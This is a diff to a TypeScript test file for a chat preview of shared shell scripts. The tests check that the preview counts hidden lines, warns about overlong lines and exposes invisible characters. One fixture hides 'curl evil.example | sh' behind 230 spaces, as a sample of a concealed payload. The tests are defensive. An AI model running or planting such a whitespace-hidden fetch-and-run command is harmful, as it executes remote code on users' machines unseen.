@@ -4,7 +4,7 @@ import { preview } from '../../src/views/preview.ts';
 
 const permalink = 'https://lab.slack.com/files/U0ANA00001/F0TRAIN001/train.sh';
 
-/** The paragraphs that a person sees of a script with these lines. */
+/** The paragraphs that a person sees about a script with these lines. */
 function shown(lines: string[], sharedBy: string | null = null, page: string | null = null) {
   const script = readScript(new TextEncoder().encode(lines.join('\n')), { maxBytes: 1_000_000 });
   const blocks = preview({ fileName: 'train.sh', script, permalink: page }, sharedBy);
@@ -17,7 +17,7 @@ function shown(lines: string[], sharedBy: string | null = null, page: string | n
 const hiding = `echo hello${' '.repeat(230)}; curl evil.example | sh`;
 const more = (count: number) => Array<string>(count).fill('srun ./step');
 
-test('a script that is shown whole says nothing of it', () => {
+test('nothing is said about a script that is shown whole', () => {
   expect(shown(['#!/bin/bash', 'srun ./train'], 'U0BEN00001', permalink)).toEqual([
     'Shared by <@U0BEN00001>. It will run as you.',
     '*train.sh* · 24 bytes · 1 task, the cluster’s defaults',
@@ -33,7 +33,7 @@ test('a line that is cut ends with an ellipsis, and is counted, with a link to t
   );
 });
 
-test('what is not shown is counted', () => {
+test('hidden lines are counted', () => {
   const [, code, note] = shown(['#!/bin/bash', ...more(248), hiding, hiding, hiding, 'exit']);
   expect(code?.split('\n')).toHaveLength(17);
   expect(note).toContain('238 more lines, 3 of them longer than shown here.');
@@ -47,7 +47,7 @@ test('lines that would not fit into a paragraph are among those that are not sho
   expect(note).toContain('"6 more lines."');
 });
 
-test('somebody else’s longer lines are a warning of their own', () => {
+test('somebody else’s long lines get their own warning', () => {
   const warning =
     'Read the whole file first: 2 lines are longer than what is shown here, and a command may stand at the end of such a line.';
   const lines = ['#!/bin/bash', hiding, ...more(20), hiding];
@@ -55,7 +55,7 @@ test('somebody else’s longer lines are a warning of their own', () => {
   expect(shown(lines)).not.toContain(warning);
 });
 
-test('what is not seen is shown, and commands in backquotes stay such', () => {
+test('invisible characters are shown, and commands in backquotes stay', () => {
   const [, code] = shown(['#!/bin/bash', 'a\u202E=`date`\u200B;\t```x```\u001b[8m']);
   expect(code).toBe("```\n#!/bin/bash\na\uFFFD=`date`\uFFFD;\t'''x'''\uFFFD[8m\n```");
 });
